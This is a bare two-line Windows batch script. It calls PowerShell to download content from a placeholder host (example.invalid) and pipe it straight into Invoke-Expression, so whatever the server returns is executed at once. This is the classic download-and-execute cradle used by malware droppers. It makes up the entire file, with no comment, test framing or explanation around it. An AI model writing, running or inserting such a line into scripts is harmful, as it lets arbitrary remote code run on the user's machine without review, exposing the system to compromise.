@echo off
powershell -Command "iwr https://example.invalid/x | iex"
